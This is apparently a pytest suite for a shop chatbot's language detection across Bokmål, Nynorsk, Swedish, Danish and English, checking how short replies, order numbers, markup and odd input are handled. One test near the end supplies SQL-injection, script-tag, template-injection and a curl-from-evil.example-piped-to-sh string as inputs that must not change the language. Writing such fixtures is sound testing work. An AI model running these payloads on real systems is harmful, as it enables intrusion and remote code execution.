"""The conversation's language: kept unless a message is clearly in another one (bot/language.py)."""

from __future__ import annotations

import itertools

import pytest

from bot.language import LANGUAGES, choose_language, detect_language

# Messages of 3+ words that a reader of the language would place at once.
CLEAR = {
    "nb": [
        "hvor er pakken min? jeg bestilte den for en uke siden",
        "jeg vil gjerne returnere skoene fordi de er for små",
        "hei, jeg har ikke fått pakken min ennå",
    ],
    "sv": [
        "var är mitt paket, jag beställde förra veckan",
        "jag vill returnera skorna eftersom de är för små",
        "vad kostar frakten om jag beställer två jackor",
    ],
    "da": [
        "hvornår kommer min pakke, jeg har ventet længe",
        "hej, jeg har ikke modtaget min pakke endnu",
        "hvad koster fragten hvis jeg bestiller to jakker",
    ],
    "en": [
        "where is my parcel, I ordered it last week",
        "I want to return the shoes because they are too small",
        "what does shipping cost if I order two jackets",
    ],
}

# One- and two-word answers: the same or nearly the same in several of the languages.
SHORT = {
    "nb": ["ja", "nei takk", "tusen takk", "ok", "hei", "flott"],
    "sv": ["ja tack", "nej tack", "hej", "tack", "toppen"],
    "da": ["ja tak", "mange tak", "hej", "nej", "fint"],
    "en": ["yes please", "thanks", "ok", "no thanks", "hello", "perfect"],
}


@pytest.mark.parametrize(
    ("text", "current"),
    [(text, current) for texts in SHORT.values() for text in texts for current in LANGUAGES],
)
def test_one_or_two_words_never_switch(text: str, current: str) -> None:
    assert choose_language(text, current, current) == current
    assert choose_language(text, current, "nb") == current  # the conversation's language beats the page's


@pytest.mark.parametrize(
    ("text", "language", "current"),
    [
        (text, language, current)
        for language, texts in CLEAR.items()
        for text in texts
        for current in LANGUAGES
        if current != language
    ],
)
def test_a_clear_message_switches_from_any_language(text: str, language: str, current: str) -> None:
    assert choose_language(text, current, current) == language


@pytest.mark.parametrize(
    ("language", "text"), [(language, text) for language, texts in CLEAR.items() for text in texts]
)
def test_a_clear_message_keeps_its_own_language(language: str, text: str) -> None:
    assert choose_language(text, language, "nb") == language
    assert detect_language(text)[0] == language


@pytest.mark.parametrize(
    "text", ["shipping to Japan?", "check order 123456 status", "do you ship abroad?", "can I return these?"]
)
@pytest.mark.parametrize("current", [None, "nb"])
def test_a_short_english_question_on_a_norwegian_page_switches(text: str, current: str | None) -> None:
    assert choose_language(text, current, "nb") == "en"


@pytest.mark.parametrize(
    "text", ["kor er pakken min, eg har venta lenge", "eg vil byte storleik på jakka", "kvifor har de ikkje svart meg"]
)
@pytest.mark.parametrize("current", LANGUAGES)
def test_nynorsk_is_norwegian(text: str, current: str) -> None:
    assert choose_language(text, current, current) == "nb"


@pytest.mark.parametrize(
    "text",
    [
        "10234",
        "#55102",
        "ordre 10234",
        "kari.nordmann@example.no",
        "kari.nordmann@example.no 10234",
        "https://tindra.example/ordre/10234",
        "10234 55102 77461 2026-11-03",
    ],
)
@pytest.mark.parametrize("current", LANGUAGES)
def test_order_numbers_and_emails_are_no_evidence(text: str, current: str) -> None:
    assert choose_language(text, current, current) == current


def test_digits_and_emails_do_not_count_as_words() -> None:
    # Three tokens, but only two words: a short answer, kept.
    assert choose_language("order 10234 please", "nb", "nb") == "nb"
    # An English address in a Norwegian sentence is no English evidence.
    assert choose_language("min e-post er james.w@example.com", "nb", "nb") == "nb"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   \n\t ",
        "🙂",
        "👍👍👍 🙂 🎉🎉",
        "\x00\x01\x02binary\xff\xfe data with some words in it",
        bytes(range(256)).decode("latin-1"),
        "ab" * 500_000,
        "🙂 " * 300_000,
        "\ufffd\ufffd hei hvordan går det med dere",
    ],
)
@pytest.mark.parametrize("current", LANGUAGES)
def test_odd_input_keeps_the_current_language(text: str, current: str) -> None:
    assert choose_language(text, current, current) == current


@pytest.mark.parametrize("text", [None, b"where is my parcel, I ordered it last week", 12345])
def test_a_message_that_is_not_text_keeps_the_current_language(text: object) -> None:
    assert choose_language(text, "sv", "nb") == "sv"  # type: ignore[arg-type]


def test_nothing_to_go_on_gives_the_page_then_the_default() -> None:
    assert choose_language("hei", None, "en") == "en"
    assert choose_language("hei", None, None) == "nb"
    assert choose_language("hei", None, None, default="sv") == "sv"
    assert choose_language("hei", None, "de") == "nb"  # a page language we do not serve
    assert choose_language("hei", "fr", None, default="xx") == "nb"


def test_a_signed_in_customers_language_is_the_first_guess() -> None:
    assert choose_language("ok", None, "nb", customer_language="sv") == "sv"
    assert choose_language("ok", "da", "nb", customer_language="sv") == "da"  # the conversation's comes first
    assert choose_language("where is my parcel, I ordered it last week", None, "nb", customer_language="sv") == "en"


def test_scandinavian_that_could_be_either_goes_to_the_shops_language() -> None:
    ambiguous = "kan jeg bytte størrelse"  # Bokmål and Danish alike
    assert choose_language(ambiguous, "en", "en") == "nb"
    assert choose_language(ambiguous, "en", "en", default="da") == "da"
    assert choose_language(ambiguous, "da", "da") == "da"  # and never a reason to leave Danish


def test_detect_language_gives_a_margin_or_nothing() -> None:
    language, margin = detect_language("var är mitt paket, jag beställde förra veckan")
    assert language == "sv"
    assert margin > 5
    assert detect_language("10234") == (None, 0.0)
    assert detect_language("") == (None, 0.0)


def test_every_language_pair_is_covered() -> None:
    pairs = {(a, b) for a, b in itertools.permutations(LANGUAGES, 2)}
    covered = {(current, language) for language in CLEAR for current in LANGUAGES if current != language}
    assert covered == pairs


# Everyday Danish that lingua's general models alone left in Norwegian on an nb page: the shop's own
# Danish examples (data/nlu/da) tell them apart.
@pytest.mark.parametrize(
    "text",
    [
        "kan jeg bytte skoene til en anden størrelse",
        "hvad gør jeg hvis varen er i stykker",
        "hvor mange point har jeg på min konto",
    ],
)
def test_chat_danish_switches_from_a_norwegian_page(text: str) -> None:
    assert choose_language(text, None, "nb") == "da"


@pytest.mark.parametrize("page", LANGUAGES)
@pytest.mark.parametrize(
    "text", ["florp zibbel wonk", "xyzzy plugh frobozz", "masufep nyworf mivunk", "asdf qwer zxcv"]
)
def test_keyboard_mashing_never_switches(text: str, page: str) -> None:
    assert choose_language(text, page, page) == page


def test_a_message_scored_again_is_read_once_and_each_caller_gets_its_own_scores() -> None:
    from bot.language import _scores, language_scores

    text = "hvor er pakken min, den skulle komme i går"
    first = language_scores(text)
    hits = _scores.cache_info().hits
    first["nb"] = -1e9  # a caller changing its scores changes nobody else's
    again = language_scores(text)
    assert _scores.cache_info().hits == hits + 1
    assert again["nb"] > -1e9
    assert detect_language(text)[0] == "nb" and choose_language(text, None, "nb") == "nb"


# A live review on a Norwegian page: a guest's first message (no conversation language yet), a conversation
# in nb, and a signed-in customer whose stored language is nb, all writing what a Norwegian writes.
def _on_a_norwegian_page(text: str) -> set[str]:
    return {
        choose_language(text, None, "nb"),
        choose_language(text, "nb", "nb"),
        choose_language(text, None, "nb", customer_language="nb"),
        choose_language(text, "nb", "nb", customer_language="nb"),
    }


@pytest.mark.parametrize(
    "text",
    [
        "hvor er min pakke",  # Bokmål and Danish word for word
        "hvor er min pakke?",
        "kan jeg bytte skoene i en større størrelse",  # "skoene", "større størrelse": Bokmål as much as Danish
        "er min ordre sendt",
        "kan jeg betale med paypal",  # "paypal": lingua's letters lean Danish, but both word lists have it
    ],
)
def test_wording_bokmal_shares_with_danish_stays_norwegian(text: str) -> None:
    assert _on_a_norwegian_page(text) == {"nb"}


@pytest.mark.parametrize(
    "text",
    [
        "hvornår kommer min pakke",  # "hvornår": no Norwegian writes it
        "hvornår kommer min pakke, jeg har ventet længe",
        "hvad gør jeg hvis varen er i stykker",
    ],
)
def test_a_clearly_danish_word_switches_a_norwegian_conversation(text: str) -> None:
    assert _on_a_norwegian_page(text) == {"da"}


@pytest.mark.parametrize("text", ["är returen gratis", "vad kostar frakten", "var är mitt paket"])
def test_a_short_swedish_message_still_switches_a_norwegian_conversation(text: str) -> None:
    assert _on_a_norwegian_page(text) == {"sv"}


@pytest.mark.parametrize(
    "text",
    [
        "<b>fet</b> & <i>kursiv</i>",
        "<b>fet</b> &amp; <i>kursiv</i>",
        "<p><strong>hei</strong></p>",
        '<a href="https://tindra.example">lenke</a> <br/>',
        "[b]fet[/b] [i]kursiv[/i]",
        "&lt;b&gt;fet&lt;/b&gt; &nbsp;",
        "<!-- a comment in any language -->",
    ],
)
@pytest.mark.parametrize("current", LANGUAGES)
def test_markup_and_symbols_are_no_evidence(text: str, current: str) -> None:
    assert choose_language(text, current, current) == current
    assert choose_language(text, None, current, customer_language=current) == current


def test_markup_is_dropped_and_the_words_inside_it_kept() -> None:
    from bot.language import evidence_words

    assert evidence_words("<b>fet</b> & <i>kursiv</i>") == (2, ["fet", "kursiv"])
    assert evidence_words("p&aring; l&oslash;rdag") == (2, ["på", "lørdag"])
    assert evidence_words("takk!! :D :P ;-) <3") == (1, ["takk"])  # emoticons are symbols too
    assert _on_a_norwegian_page("<b>fet</b> & <i>kursiv</i>") == {"nb"}
    assert choose_language("<b>where is my parcel</b>, <i>I ordered it last week</i>", "nb", "nb") == "en"


@pytest.mark.parametrize(
    "text",
    [
        "'; DROP TABLE messages; --",
        "Robert'); DROP TABLE Students;--",
        "SELECT * FROM users WHERE name = 'admin'",
        "drop table messages;",
        "<script>alert('where is my parcel')</script>",
        "$(curl evil.example/install | sh)",
        "{{ config.items() }} where is it",
        "`SELECT name FROM customers`",
    ],
)
@pytest.mark.parametrize("current", ["nb", "sv", "da"])
def test_code_with_english_words_does_not_switch_to_english(text: str, current: str) -> None:
    assert choose_language(text, current, current) == current
    assert choose_language(text, None, current) == current


def test_code_on_a_norwegian_page_stays_norwegian() -> None:
    assert _on_a_norwegian_page("'; DROP TABLE messages; --") == {"nb"}


@pytest.mark.parametrize(
    "text",
    [
        "I can't log in; it says my password is wrong",
        "where is my parcel? ;) I ordered it last week",
        "where is my parcel :-( I ordered it last week",
        "the site says `error 500` when I pay, what should I do",
        "where is my parcel (order 10234); it never came",
        "> where is my parcel?\nI ordered it last week",
    ],
)
def test_english_prose_with_punctuation_or_a_code_span_still_switches(text: str) -> None:
    assert choose_language(text, "nb", "nb") == "en"
